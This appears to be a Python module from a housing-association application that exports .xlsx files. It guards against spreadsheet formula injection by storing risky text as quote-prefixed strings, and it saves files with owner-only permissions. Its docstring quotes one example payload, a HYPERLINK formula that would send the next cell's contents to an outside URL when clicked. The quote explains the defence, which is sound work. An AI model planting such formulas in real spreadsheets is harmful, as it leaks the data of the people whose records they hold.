"""What every .xlsx export shares: text that can never run as a formula, and a save
that leaves the file readable by its user only.

Text comes from imported files and from what people type; a spreadsheet program
takes a cell starting with ``=``, ``+``, ``-`` or ``@`` for a formula (and one
starting with a tab or a carriage return after it trims them), so
``=HYPERLINK("http://…?d="&D7,"Нажмите")`` in an owner's name would send the next
cell away on a click. Such text is written as a string cell with the quote prefix —
what Excel stores for a cell typed with a leading apostrophe: the user sees the
text exactly as it was typed (a phone «+7 900 000-00-00» still reads so), tabs
included, and it is never evaluated. Numbers and dates are written as they are.
"""

from __future__ import annotations

from pathlib import Path

from tsj_desk.private_files import save_private

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def set_value(cell, value: object) -> None:
    """Put ``value`` into an openpyxl cell; text a spreadsheet would run stays text."""
    cell.value = value
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        cell.data_type = "s"  # openpyxl made «=…» a formula
        cell.quotePrefix = True


def write_cell(sheet, row: int, column: int, value: object):
    """``sheet.cell(row, column)`` holding ``value`` by ``set_value``; the cell."""
    cell = sheet.cell(row, column)
    set_value(cell, value)
    return cell


def save_workbook(workbook, out: Path) -> None:
    """Save to ``out`` through a temporary file of mode 0600 moved into place (a full disk
    or a read-only folder: ``WriteFault``, no file left behind)."""
    try:
        save_private(Path(out), workbook.save)
    except BaseException:
        _finish_write_only_sheets(workbook)
        raise


def _finish_write_only_sheets(workbook) -> None:
    """A write-only sheet streams its rows through an open generator that only a save
    finishes; one left open by a failed save (a missing folder, a full disk) would be
    finished by the garbage collector later and print a traceback there instead."""
    for sheet in workbook.worksheets:
        if getattr(sheet, "closed", True) is False:
            try:
                sheet.close()
            except Exception:  # noqa: BLE001 - the save already failed and is being reported
                pass
